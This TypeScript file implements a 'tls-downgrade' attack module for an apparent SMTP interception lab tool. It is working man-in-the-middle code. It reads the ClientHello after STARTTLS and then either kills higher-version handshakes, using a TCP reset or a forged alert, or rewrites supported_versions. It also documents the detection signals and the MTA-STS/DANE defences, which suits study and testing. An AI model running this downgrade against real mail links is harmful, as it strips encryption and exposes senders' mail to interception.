// tls-downgrade: the protocol version downgrade. The attacker reads the ClientHello after
// STARTTLS and kills every handshake that offers more than a chosen version, until a sender
// that falls back retries lower (the "downgrade dance" RFC 7507 §1 describes); or it edits
// supported_versions so the server itself picks less. What detects it: TLS_FALLBACK_SCSV on the
// retry (RFC 7507 §3) and the sentinel a TLS 1.3 server writes into ServerHello.random when it
// negotiates less (RFC 8446 §4.1.3). MTA-STS refuses anything below TLS 1.2 (RFC 8461 §7).

import { english, text } from '../../../common/i18n/text.ts';
import type { AttackModule } from '../attack-module.ts';
import { tlsVersionName } from '../../protocol/tls-names.ts';
import { capOfferedVersions, readClientHello, VERSION_CODES } from '../proxy/client-hello.ts';
import { interceptSmtpLinks } from '../proxy/intercept-links.ts';
import { smtpTap } from '../proxy/smtp-tap.ts';
import { HandshakeObserver } from './tls-downgrade-observer.ts';

// A fatal handshake_failure alert (RFC 8446 §6, RFC 5246 §7.2), as a server that gave up sends it.
const HANDSHAKE_FAILURE = Buffer.from([0x15, 0x03, 0x03, 0x00, 0x02, 0x02, 0x28]);

export const tlsDowngrade: AttackModule = {
  info: {
    name: 'tls-downgrade',
    title: { en: 'TLS protocol downgrade', ja: 'TLS プロトコルのダウングレード' },
    description: {
      en: 'Reads the ClientHello after STARTTLS and kills every handshake that offers a higher TLS version than max, until a sender that falls back retries with a lower one; or rewrites supported_versions so the server chooses less. TLS_FALLBACK_SCSV on the retry and the TLS 1.3 downgrade sentinel in ServerHello.random let the peers notice.',
      ja: 'STARTTLS 後の ClientHello を読み、max より新しい TLS バージョンを提示するハンドシェイクをすべて切断します。フォールバックする送信側は低いバージョンで再試行します。あるいは supported_versions を書き換えて、サーバーに低いバージョンを選ばせます。再試行時の TLS_FALLBACK_SCSV と、ServerHello.random に入る TLS 1.3 のダウングレード検知値（sentinel）によって、通信相手は攻撃に気付けます。',
    },
    target: 'smtp',
    params: [
      {
        name: 'max',
        description: { en: 'The highest TLS version the attacker lets through', ja: '攻撃者が通す最も新しい TLS バージョン' },
        values: ['TLSv1.2', 'TLSv1.1', 'TLSv1'],
      },
      {
        name: 'mode',
        description: {
          en: 'reset: kill the handshake with a TCP reset; alert: with a handshake_failure alert; rewrite: edit supported_versions in the ClientHello instead',
          ja: 'reset: TCP リセットで切断、alert: handshake_failure アラートで切断、rewrite: 切断せず ClientHello の supported_versions を書き換える',
        },
        values: ['reset', 'alert', 'rewrite'],
      },
    ],
    stoppedBy: {
      en: 'MTA-STS and DANE senders: they require TLS and never fall back to cleartext, and MTA-STS requires TLS 1.2 or later (RFC 8461 §7). TLS_FALLBACK_SCSV (RFC 7507) and the TLS 1.3 downgrade sentinel (RFC 8446 §4.1.3) only detect the downgrade: an opportunistic sender then sends in plaintext, and the attacker reads it',
      ja: 'MTA-STS・DANE の送信側：TLS を必須とし平文に戻らず、MTA-STS は TLS 1.2 以上を要求します（RFC 8461 §7）。TLS_FALLBACK_SCSV（RFC 7507）と TLS 1.3 のダウングレード検知（RFC 8446 §4.1.3）はダウングレードに気付くだけです。日和見的な送信側はその後平文で送り、攻撃者に読まれます',
    },
  },
  async start(run) {
    const max = VERSION_CODES[run.params.max];
    const mode = run.params.mode;
    return interceptSmtpLinks(run, (conn) => {
      const watch = smtpTap(run, conn);
      const observer = new HandshakeObserver(run, conn);
      let phase: 'smtp' | 'hello' | 'after' | 'killed' = 'smtp';
      let held: Buffer = Buffer.alloc(0);
      return {
        data(dir, chunk, io) {
          if (phase === 'killed') return;
          if (phase === 'hello' && dir === 'c2s') {
            held = held.length ? Buffer.concat([held, chunk]) : chunk;
            const read = readClientHello(held);
            if (read.state === 'more') return;
            phase = 'after';
            let out = held;
            held = Buffer.alloc(0);
            if (read.state === 'not-hello') {
              run.rows.on(conn, { action: 'observe', dir: 'c2s', said: text('attack.noClientHello', { reason: read.reason }), fields: { what: 'not-client-hello', reason: english(read.reason), reasonText: read.reason } });
            } else {
              const { hello, highest } = read;
              run.rows.on(conn, {
                action: 'observe',
                dir: 'c2s',
                said: text(hello.fallbackScsv ? 'attack.readClientHelloScsv' : 'attack.readClientHello', { versions: hello.offeredVersions.join(', ') }),
                fields: { what: 'client-hello', offered: hello.offeredVersions, highest: tlsVersionName(highest), fallbackScsv: hello.fallbackScsv, sni: hello.sni },
              });
              if (hello.fallbackScsv) {
                run.rows.on(conn, {
                  action: 'detect',
                  dir: 'c2s',
                  said: text('attack.scsvSeen', { version: tlsVersionName(highest) }),
                  fields: { what: 'fallback-scsv' },
                  rule: 'RFC 7507 §3',
                });
              }
              if (highest > max) {
                const capped = mode === 'rewrite' ? capOfferedVersions(out, max) : null;
                if (capped) {
                  run.rows.on(conn, {
                    action: 'rewrite',
                    dir: 'c2s',
                    said: text('attack.rewroteVersions', { removed: capped.removed.join(', '), host: conn.link.to, max: run.params.max }),
                    fields: { removed: capped.removed, max: run.params.max },
                    before: out,
                    after: capped.bytes,
                    rule: 'RFC 8446 §4.1.3',
                  });
                  out = capped.bytes;
                } else {
                  phase = 'killed';
                  const how = mode === 'alert' ? 'alert' : 'reset';
                  run.rows.on(conn, {
                    action: 'kill',
                    dir: 'c2s',
                    said: text(how === 'alert' ? 'attack.killedAlert' : 'attack.killedReset', { version: tlsVersionName(highest), max: run.params.max }),
                    fields: { how, highest: tlsVersionName(highest), max: run.params.max },
                    rule: 'RFC 7507 §1',
                  });
                  if (how === 'alert') {
                    io.send('s2c', HANDSHAKE_FAILURE);
                    io.end('s2c');
                    io.end('c2s');
                  } else io.reset();
                  return;
                }
              } else {
                run.rows.on(conn, { action: 'observe', dir: 'c2s', said: text('attack.letThrough', { version: tlsVersionName(highest) }), fields: { what: 'let-through', highest: tlsVersionName(highest) } });
              }
            }
            io.send('c2s', out);
            watch.feed('c2s', out);
            observer.feed('c2s', out);
            return;
          }
          io.send(dir, chunk);
          watch.feed(dir, chunk);
          if (phase === 'smtp' && watch.inTls) phase = 'hello';
          else if (phase === 'after') observer.feed(dir, chunk);
        },
        closed: () => watch.finish(),
      };
    });
  },
};
